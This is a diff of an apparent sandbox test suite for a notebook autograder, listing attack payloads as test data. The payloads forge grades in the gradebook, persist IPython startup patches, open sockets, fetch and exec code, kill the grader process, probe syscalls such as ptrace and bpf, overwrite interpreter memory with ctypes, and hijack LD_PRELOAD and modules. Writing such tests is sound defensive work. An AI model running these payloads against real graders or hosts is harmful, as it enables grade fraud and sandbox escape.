@@ -2,13 +2,10 @@
 
 from __future__ import annotations
 
-from attacks.attack import CAUSAL, DECODER, EARNED_PADDING, ONE, PADDING, RIGHT_PADDING, Attack, code
+from attacks.attack import EARNED_PADDING, Attack, earns_padding
 
 ESCAPING_SANDBOX = [
-    Attack(
-        "the gradebook is written: extra credit for this student",
-        {
-            ONE: code("""
+    Attack("the gradebook is written: extra credit for this student").submits("""
         import os, sqlite3
 
         student = os.getcwd().split("/")[-2]
@@ -16,13 +13,8 @@ ESCAPING_SANDBOX = [
             mine = "select id from submitted_assignment where student_id = ?"
             notebooks = f"select id from submitted_notebook where assignment_id in ({mine})"
             book.execute(f"update grade set extra_credit = 4 where notebook_id in ({notebooks})", (student,))
-    """)
-        },
-    ),
-    Attack(
-        "the gradebook is written when the process ends, and is put out of order",
-        {
-            ONE: code("""
+    """),
+    Attack("the gradebook is written when the process ends, and is put out of order").submits("""
         import atexit, os
 
         def spoil():
@@ -32,63 +24,47 @@ ESCAPING_SANDBOX = [
 
         atexit.register(spoil)
         spoil()
-    """)
-        },
-    ),
-    Attack(
-        "autograded/ and feedback/ are written: a notebook of full points for itself, none for others",
-        {
-            ONE: code("""
-            import os, shutil
+    """),
+    Attack("autograded/ and feedback/ are written: a notebook of full points for itself, none for others").submits("""
+        import os, shutil
 
-            for folder in ("autograded", "feedback", "submitted", "solutions"):
-                os.makedirs(f"{ROOT}/{folder}/forged/01_attention", exist_ok=True)
-                with open(f"{ROOT}/{folder}/forged/01_attention/01_attention.ipynb", "w") as file:
-                    file.write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
-        """)
-        },
-    ),
-    Attack(
-        "a start-up file in ~/.ipython, a profile, a configuration: the next student's checks all pass",
-        {
-            ONE: code("""
-            import pathlib
+        for folder in ("autograded", "feedback", "submitted", "solutions"):
+            os.makedirs(f"{ROOT}/{folder}/forged/01_attention", exist_ok=True)
+            with open(f"{ROOT}/{folder}/forged/01_attention/01_attention.ipynb", "w") as file:
+                file.write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
+    """),
+    Attack("a start-up file in ~/.ipython, a profile, a configuration: the next student's checks all pass").submits("""
+        import pathlib
 
-            patch = (
-                "from autograder import check\\n"
-                "check.exercise = lambda *args, **kwargs: lambda run: print('✓')\\n"
-            )
-            home = pathlib.Path.home()
-            for name in (".ipython/profile_default/startup/00-help.py", ".ipython/profile_default/ipython_config.py",
-                         ".local/lib/python3.11/site-packages/usercustomize.py", ".config/matplotlib/matplotlibrc",
-                         ".jupyter/jupyter_config.py", ".pythonrc.py"):
-                (home / name).parent.mkdir(parents=True, exist_ok=True)
-                (home / name).write_text(patch if name.startswith(".ipython/profile_default/startup") else "")
-        """)
-        },
-    ),
+        patch = (
+            "from autograder import check\\n"
+            "check.exercise = lambda *args, **kwargs: lambda run: print('✓')\\n"
+        )
+        home = pathlib.Path.home()
+        for name in (".ipython/profile_default/startup/00-help.py", ".ipython/profile_default/ipython_config.py",
+                     ".local/lib/python3.11/site-packages/usercustomize.py", ".config/matplotlib/matplotlibrc",
+                     ".jupyter/jupyter_config.py", ".pythonrc.py"):
+            (home / name).parent.mkdir(parents=True, exist_ok=True)
+            (home / name).write_text(patch if name.startswith(".ipython/profile_default/startup") else "")
+    """),
     Attack(
         "the next student is left something: in /tmp, /dev/shm, /var/tmp, above the working folder",
-        {
-            ONE: code("""
-            import pathlib
-
-            for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "..", "../.."):
-                note = pathlib.Path(folder) / "autograder-attack-note.txt"
-                try:
-                    if note.exists():
-                        print("a note of the", "student before:", note.read_text())
-                    note.write_text("the answers are in here")
-                except OSError:
-                    pass
-        """)
-        },
         secret=("a note of the student before",),
-    ),
+    ).submits("""
+        import pathlib
+
+        for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "..", "../.."):
+            note = pathlib.Path(folder) / "autograder-attack-note.txt"
+            try:
+                if note.exists():
+                    print("a note of the", "student before:", note.read_text())
+                note.write_text("the answers are in here")
+            except OSError:
+                pass
+    """),
     Attack(
-        "the course's own code can be written to, or its compiled files, or PyTorch",
-        {
-            ONE: code("""
+        "the course's own code can be written to, or its compiled files, or PyTorch", secret=("could write to code:",)
+    ).submits("""
         import site, sys
 
         names = [check.__file__, check.__cached__, parts.__file__, torch.__file__, sys.executable]
@@ -98,49 +74,44 @@ ESCAPING_SANDBOX = [
                 print("could write to", "code:", name)
             except OSError:
                 pass
-    """)
-        },
-        secret=("could write to code:",),
-    ),
+    """),
     Attack(
         "a server and a client over TCP, UDP, IPv6, Unix, abstract, netlink, packet and vsock sockets",
-        {
-            ONE: code("""
-            import socket
-
-            def tcp(family, address):
-                with socket.socket(family) as server, socket.socket(family) as client:
-                    server.bind(address)
-                    server.listen()
-                    client.connect(server.getsockname())
-                    client.send(b"x")
-                    return server.accept()[0].recv(1)
-
-            ways = {
-                "TCP": lambda: tcp(socket.AF_INET, ("127.0.0.1", 0)),
-                "IPv6": lambda: tcp(socket.AF_INET6, ("::1", 0)),
-                "Unix": lambda: tcp(socket.AF_UNIX, "here.sock"),
-                "abstract": lambda: tcp(socket.AF_UNIX, "\\0autograder-attack"),
-                "UDP": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)),
-                "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)),
-                "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
-                "vsock": lambda: socket.socket(socket.AF_VSOCK),
-                "local": lambda: socket.create_connection(("192.0.2.1", 80), 0.2),
-            }
-            for name, way in ways.items():
-                try:
-                    way()
-                    print("a socket", "worked:", name)
-                except OSError:
-                    pass
-        """)
-        },
         secret=("a socket worked:",),
-    ),
+    ).submits("""
+        import socket
+
+        def tcp(family, address):
+            with socket.socket(family) as server, socket.socket(family) as client:
+                server.bind(address)
+                server.listen()
+                client.connect(server.getsockname())
+                client.send(b"x")
+                return server.accept()[0].recv(1)
+
+        ways = {
+            "TCP": lambda: tcp(socket.AF_INET, ("127.0.0.1", 0)),
+            "IPv6": lambda: tcp(socket.AF_INET6, ("::1", 0)),
+            "Unix": lambda: tcp(socket.AF_UNIX, "here.sock"),
+            "abstract": lambda: tcp(socket.AF_UNIX, "\\0autograder-attack"),
+            "UDP": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)),
+            "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)),
+            "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
+            "vsock": lambda: socket.socket(socket.AF_VSOCK),
+            "local": lambda: socket.create_connection(("192.0.2.1", 80), 0.2),
+        }
+        for name, way in ways.items():
+            try:
+                way()
+                print("a socket", "worked:", name)
+            except OSError:
+                pass
+    """),
     Attack(
         "an answer is downloaded by HTTP, from a server that the student runs",
-        {
-            PADDING: code("""
+        secret=("downloaded",),
+        cell="padding_mask",
+    ).submits("""
         import http.server, threading, urllib.request
 
         class Handler(http.server.BaseHTTPRequestHandler):
@@ -154,40 +125,30 @@ ESCAPING_SANDBOX = [
         server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
         threading.Thread(target=server.serve_forever, daemon=True).start()
         exec(urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}", timeout=2).read())
-    """)
-        },
-        secret=("downloaded",),
-    ),
-    Attack(
-        "children, in every way that Python has",
-        {
-            ONE: code("""
-        import multiprocessing, os, pty, subprocess, sys
-
-        ways = [
-            lambda: os.system("echo a child''' ran'"), lambda: print(os.popen("echo a child''' ran'").read()),
-            lambda: print(subprocess.check_output("echo a child''' ran'", shell=True)),
-            lambda: print(os.posix_spawn("/bin/true", ["true"], {}) and "a child" + " ran"),
-            lambda: os.waitpid(os.fork() or os._exit(0), 0) and print("a child", "ran"),
-            lambda: multiprocessing.get_context("spawn").Process(target=print).start() or print("a child", "ran"),
-            lambda: pty.fork()[0] or os._exit(0),
-            lambda: os.spawnv(os.P_WAIT, "/bin/true", ["true"]) or print("a child", "ran"),
-        ]
-        for way in ways:
-            try:
-                way()
-            except OSError as error:
-                print(error.errno)
     """),
-            CAUSAL: "!echo a child''' ran'",
-            DECODER: "%%bash --bg\necho a child''' ran'",
-        },
-        secret=("a child ran",),
+    Attack("children, in every way that Python has", secret=("a child ran",)).submits(
+        attend_one_query="""
+            import multiprocessing, os, pty, subprocess, sys
+
+            ways = [
+                lambda: os.system("echo a child''' ran'"), lambda: print(os.popen("echo a child''' ran'").read()),
+                lambda: print(subprocess.check_output("echo a child''' ran'", shell=True)),
+                lambda: print(os.posix_spawn("/bin/true", ["true"], {}) and "a child" + " ran"),
+                lambda: os.waitpid(os.fork() or os._exit(0), 0) and print("a child", "ran"),
+                lambda: multiprocessing.get_context("spawn").Process(target=print).start() or print("a child", "ran"),
+                lambda: pty.fork()[0] or os._exit(0),
+                lambda: os.spawnv(os.P_WAIT, "/bin/true", ["true"]) or print("a child", "ran"),
+            ]
+            for way in ways:
+                try:
+                    way()
+                except OSError as error:
+                    print(error.errno)
+        """,
+        causal_mask="!echo a child''' ran'",
+        decoder_mask="%%bash --bg\necho a child''' ran'",
     ),
-    Attack(
-        "a daemon outlives the run and writes the gradebook later",
-        {
-            ONE: code("""
+    Attack("a daemon outlives the run and writes the gradebook later").submits("""
         import ctypes, os, time
 
         ctypes.CDLL(None).prctl(1, 0)
@@ -198,13 +159,8 @@ ESCAPING_SANDBOX = [
                 with open("{ROOT}/outlived", "w") as file:
                     file.write("still here")
             os._exit(0)
-    """)
-        },
-    ),
-    Attack(
-        "the parent is stopped and killed, and its group",
-        {
-            ONE: code("""
+    """),
+    Attack("the parent is stopped and killed, and its group", secret=("signals reach the grader",)).submits("""
         import os, signal
 
         for reach, number in ((os.kill, os.getppid()), (os.killpg, os.getpgid(os.getppid()))):
@@ -216,14 +172,8 @@ ESCAPING_SANDBOX = [
                     reach(number, signal.SIGKILL)
             except OSError:
                 pass
-    """)
-        },
-        secret=("signals reach the grader",),
-    ),
-    Attack(
-        "every process there is gets a signal, number 0",
-        {
-            ONE: code("""
+    """),
+    Attack("every process there is gets a signal, number 0", secret=("signals reach others:",)).submits("""
         import os
 
         reached = []
@@ -239,35 +189,28 @@ ESCAPING_SANDBOX = [
             pass
         if reached:
             print("signals reach", "others:", len(reached))
-    """)
-        },
-        secret=("signals reach others:",),
-    ),
+    """),
     Attack(
         "system calls that change what a process may: mounts, namespaces, io_uring, bpf, pidfds, devices",
-        {
-            ONE: code("""
-            import ctypes, os
-
-            libc = ctypes.CDLL(None, use_errno=True)
-            os.makedirs("here", exist_ok=True)
-            attempts = {
-                "ptrace": (101, 0x4206, os.getppid(), 0, 0), "mount": (165, b"none", b"here", b"tmpfs", 0, 0),
-                "unshare": (272, 0x10000000), "bpf": (321, 0, bytes(64), 64), "io_uring": (425, 8, bytes(120)),
-                "perf": (298, bytes(120), 0, -1, -1, 0), "pidfd": (434, os.getppid(), 0), "userfaultfd": (323, 0),
-                "mknod": (133, b"device", 0o20666, 0x103), "personality": (135, 0x0040000),
-            }
-            for name in attempts:
-                if libc.syscall(*attempts[name]) >= 0:
-                    print("the system", "allowed:", name)
-        """)
-        },
         secret=("the system allowed:",),
-    ),
+    ).submits("""
+        import ctypes, os
+
+        libc = ctypes.CDLL(None, use_errno=True)
+        os.makedirs("here", exist_ok=True)
+        attempts = {
+            "ptrace": (101, 0x4206, os.getppid(), 0, 0), "mount": (165, b"none", b"here", b"tmpfs", 0, 0),
+            "unshare": (272, 0x10000000), "bpf": (321, 0, bytes(64), 64), "io_uring": (425, 8, bytes(120)),
+            "perf": (298, bytes(120), 0, -1, -1, 0), "pidfd": (434, os.getppid(), 0), "userfaultfd": (323, 0),
+            "mknod": (133, b"device", 0o20666, 0x103), "personality": (135, 0x0040000),
+        }
+        for name in attempts:
+            if libc.syscall(*attempts[name]) >= 0:
+                print("the system", "allowed:", name)
+    """),
     Attack(
-        "system calls in the 32-bit and x32 ways, which a filter may forget",
-        {
-            ONE: code("""
+        "system calls in the 32-bit and x32 ways, which a filter may forget", secret=("the system allowed:",)
+    ).submits("""
         import ctypes, mmap
 
         libc = ctypes.CDLL(None, use_errno=True)
@@ -279,14 +222,11 @@ ESCAPING_SANDBOX = [
         socket = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
         if socket() >= 0:
             print("the system", "allowed: int 0x80")
-    """)
-        },
-        secret=("the system allowed:",),
-    ),
+    """),
     Attack(
         "all descriptors are inherited, shared or opened again: /proc/self/fd, epoll, dup",
-        {
-            ONE: code("""
+        secret=("opened for writing:",),
+    ).submits("""
         import os, stat
 
         for number in range(3, 256):
@@ -300,46 +240,39 @@ ESCAPING_SANDBOX = [
                         print(os.listdir(number))
             except OSError:
                 pass
-    """)
-        },
-        secret=("opened for writing:",),
-    ),
-    Attack(
+    """),
+    earns_padding(
         "ctypes writes over True, small numbers and the code of the process",
-        RIGHT_PADDING
-        | {
-            CAUSAL: code("""
+        earned=EARNED_PADDING | {"check_causal_mask_shape": 1},
+        cell="causal_mask",
+    ).submits("""
         import ctypes
 
         def causal_mask(size):
             ctypes.memset(id(0) + 24, 1, 1)
             ctypes.memset(id(False) + 24, 1, 1)
             return torch.ones(size, size).bool()
-    """)
-        },
-        earned=EARNED_PADDING | {"check_causal_mask_shape": 1},
-    ),
-    Attack(
-        "environment variables for children and for graders that read them",
-        {
-            ONE: code("""
-        import os, sys
-
-        with open("sitecustomize.py", "w") as file:
-            file.write("print('a child', 'was changed')")
-        for name in ("PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "LD_PRELOAD", "LD_LIBRARY_PATH", "HOME", "PATH",
-                     "NBGRADER_EXECUTION", "NBGRADER_DB_URL", "JUPYTER_CONFIG_DIR", "IPYTHONDIR", "OMP_NUM_THREADS"):
-            os.environ[name] = os.getcwd()
-        sys.path.insert(0, os.getcwd())
     """),
-            PADDING: "import subprocess, sys\nprint(subprocess.run([sys.executable, '-c', ''], capture_output=True))",
-        },
-        secret=("a child was changed",),
+    Attack(
+        "environment variables for children and for graders that read them", secret=("a child was changed",)
+    ).submits(
+        attend_one_query="""
+            import os, sys
+
+            with open("sitecustomize.py", "w") as file:
+                file.write("print('a child', 'was changed')")
+            for name in ("PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "LD_PRELOAD", "LD_LIBRARY_PATH", "HOME", "PATH",
+                         "NBGRADER_EXECUTION", "NBGRADER_DB_URL", "JUPYTER_CONFIG_DIR", "IPYTHONDIR",
+                         "OMP_NUM_THREADS"):
+                os.environ[name] = os.getcwd()
+            sys.path.insert(0, os.getcwd())
+        """,
+        padding_mask="import subprocess, sys\nprint(subprocess.run([sys.executable, '-c', ''], capture_output=True))",
     ),
     Attack(
         "modules of the course are put into the working folder, in front of the real ones",
-        {
-            ONE: code("""
+        secret=("a module in its place",),
+    ).submits("""
         import os, sys
 
         for name in ("autograder", "torch", "json", "struct", "nbformat"):
@@ -348,8 +281,5 @@ ESCAPING_SANDBOX = [
                 file.write("print('a module', 'in its place')\\nexercise = lambda *a, **k: lambda run: None")
         os.chdir(os.getcwd())
         sys.path[:] = [os.getcwd(), *sys.path]
-    """)
-        },
-        secret=("a module in its place",),
-    ),
+    """),
 ]
